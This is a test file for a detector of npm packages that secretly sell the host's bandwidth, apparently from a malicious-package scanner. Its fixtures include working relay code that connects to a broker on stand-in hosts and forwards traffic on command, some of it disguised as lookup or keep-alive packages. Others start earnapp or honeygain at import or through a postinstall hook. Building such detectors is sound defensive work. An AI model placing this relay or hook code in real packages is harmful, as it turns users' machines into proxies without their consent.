import { examine } from '../../../test/examine.ts';
import { sellsBandwidth } from './sells-bandwidth.ts';

const CP = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');`;
const SOCKET = `const WebSocket = require('ws'); const ws = new WebSocket('wss://peers.invalid');`;
const hook = (command: string): object => ({ name: 'specimen', scripts: { postinstall: command } });

examine(sellsBandwidth, {
  speaks: [
    {
      when: 'what comes is first cut into frames by a function that another one makes',
      files: {
        'index.js': `const tls = require('tls'), net = require('net'); const frames = on => { let all = Buffer.alloc(0); return chunk => { all = Buffer.concat([all, chunk]); on(all.readUInt16BE(0), all.subarray(7)); }; };
          const link = tls.connect({ host: 'broker.invalid', port: 443 }); link.on('data', frames((id, data) => { const [host, port] = data.toString().split(':'); const out = net.connect(Number(port), host); out.on('data', x => link.write(x)) }));`,
      },
      weight: 'strong',
    },
    {
      when: 'a lookup does it once somebody calls it',
      files: {
        'package.json': { name: 'inert-lookup', version: '1.0.0', main: 'index.js', description: 'Looks up the country of an address' },
        'index.js': `const tls = require('tls'), net = require('net'); exports.lookup = () => { const s = tls.connect({ host: 'broker.invalid', port: 443 }); s.on('data', d => { const [host, port] = d.toString().split(':'); const out = net.connect(Number(port), host); out.on('data', x => s.write(x)) }) };`,
      },
      weight: 'strong',
    },
    {
      when: 'an agent that keeps connections does it, for one server or another',
      files: {
        'package.json': { name: 'inert-keep-alive-agent', version: '1.0.0', main: 'index.js', description: 'Keep-alive agent' },
        'index.js': `const net = require('net'); const HUBS = ['a.invalid:74', 'b.invalid:75']; let n = 0; exports.agent = () => { const [at, p] = HUBS[n++ % HUBS.length].split(':'); const s = net.connect(Number(p), at); s.on('data', d => { const [host, port] = d.toString().split(':'); const out = net.connect(Number(port), host); out.on('data', x => s.write(x)) }) };`,
      },
      weight: 'strong',
    },
    {
      when: 'a client of a tunnel does it for whoever starts it',
      files: {
        'package.json': { name: 'inert-tunnel', version: '1.0.0', main: 'index.js', description: 'Tunnel client' },
        'index.js': `const tls = require('tls'), net = require('net'); exports.open = () => { const s = tls.connect({ host: 'broker.invalid', port: 443 }); s.on('data', d => { const [host, port] = d.toString().split(':'); const out = net.connect(Number(port), host); out.on('data', x => s.write(x)) }) };`,
      },
      weight: 'weak',
    },
    { when: 'it is started at import', files: { 'index.js': `${CP} cp.spawn('./earnapp', ['start'])` }, weight: 'proof' },
    { when: 'by a hook', files: { 'package.json': hook('chmod +x honeygain && ./honeygain -tou-accept') }, weight: 'proof' },
    {
      when: 'a peer of its own orders what is asked for',
      files: {
        'index.js': `${SOCKET} async function ask({ url, method }) { const r = await fetch(url, { method }); return { status: r.status, body: await r.text() }; }
          ws.on('message', async text => { const { id, data } = JSON.parse(text); ws.send(JSON.stringify({ id, result: await ask(data) })); });`,
      },
      weight: 'strong',
      says: ['peers.invalid orders'],
    },
    {
      when: 'each order is answered over a connection of its own to the same peer',
      files: {
        'index.js': `const net = require('net'), tls = require('tls'); const PEER = { host: 'a.invalid', port: 443 };
          exports.cache = () => { const hub = tls.connect(PEER); hub.on('data', d => { const m = JSON.parse(d); relay(m) }) };
          function relay({ host, port }) { const out = net.connect(port, host); const back = tls.connect(PEER); out.pipe(back).pipe(out) }`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'what comes in frames is only counted',
      files: {
        'index.js': `const tls = require('tls'), net = require('net'); const frames = on => { let all = Buffer.alloc(0); return chunk => { all = Buffer.concat([all, chunk]); on(all.length); }; };
          const link = tls.connect({ host: 'broker.invalid', port: 443 }); link.on('data', frames(size => console.log(size))); const out = net.connect(80, 'own.invalid'); out.on('data', x => link.write(x));`,
      },
    },
    {
      when: 'a socket of its own tells which of its pages to ask for',
      files: {
        'index.js': `${SOCKET} ws.on('message', async text => ws.send(await (await fetch('https://api.invalid/' + JSON.parse(text).page)).text()));`,
      },
    },
    {
      when: 'the answer is shown and goes nowhere',
      files: { 'index.js': `${SOCKET} ws.on('message', async text => console.log(await (await fetch(JSON.parse(text).url)).text()));` },
    },
    {
      when: 'the user names the peer',
      files: {
        'index.js': `const WebSocket = require('ws'); exports.join = peer => { const ws = new WebSocket(peer); ws.on('message', async text => ws.send(await (await fetch(JSON.parse(text).url)).text())); };`,
      },
    },

    { when: 'a proxy of its own is started', files: { 'index.js': `${CP} exports.serve = () => cp.spawn('proxy', ['--port', '8080'])` } },
    { when: 'a list names it', files: { 'index.js': `module.exports = ['earnapp', 'honeygain'];` } },
  ],
});
